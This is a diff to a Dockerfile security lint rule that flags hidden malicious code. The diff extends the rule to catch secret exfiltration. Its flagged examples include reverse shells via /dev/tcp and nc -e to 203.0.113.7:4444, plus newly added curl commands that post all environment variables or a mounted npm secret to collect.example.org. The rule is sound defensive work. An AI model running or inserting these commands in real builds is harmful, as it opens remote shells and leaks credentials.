@@ -14,11 +14,11 @@ export default defineRule({
   precision: 'high',
   cwe: [506],
   docs: {
-    title: 'Do not run code that hides what it does',
-    why: 'Code that is decoded and run at once, a shell whose input and output are a network connection, a program that mines coins: attackers leave these behind in a Dockerfile that they managed to change. The code runs in the build, with its secrets, and in every container.',
+    title: 'Do not run code that hides itself, or gives secrets away',
+    why: 'Code that is decoded and run at once, a shell whose input and output are a network connection, a program that mines coins, a request that carries all variables: attackers leave these behind in a Dockerfile that they managed to change. The code runs in the build, with its secrets, and in every container.',
     how: 'Find out who added the line and why, and treat the build as compromised until you know. If it is intended, put the plain code into a file of the repository and copy that.',
     limits:
-      'Decoding data into a file is left alone, as are connections that only test whether a port is open. The rule does not know every way to hide code.',
+      'Decoding data into a file is left alone, as are connections that only test whether a port is open. Of what is sent, it reports all variables, files below `/run/secrets` and the credentials of a user, if they are sent to a name with a dot; a secret in a header, or within other data, is how programs log in. The rule does not know every way to hide code.',
     ways: [
       {
         do: 'Stop building it, and find out with `git log -S` who added the line.',
@@ -63,11 +63,14 @@ export default defineRule({
         FROM debian:12
         RUN «bash -i >& /dev/tcp/203.0.113.7/4444 0>&1»
         RUN «nc -e /bin/sh 203.0.113.7 4444»
+        RUN «env | curl -d @- https://collect.example.org/»
+        RUN --mount=type=secret,id=npm «curl -d @/run/secrets/npm https://collect.example.org/»
       `,
       good: `
         FROM debian:12
         RUN timeout 5 bash -c '</dev/tcp/mirror.example.org/443'
         RUN nc -z mirror.example.org 443
+        RUN --mount=type=secret,id=npm curl -H "Authorization: Bearer $(cat /run/secrets/npm)" -O https://registry.example.org/a.tgz
       `,
     },
   ],
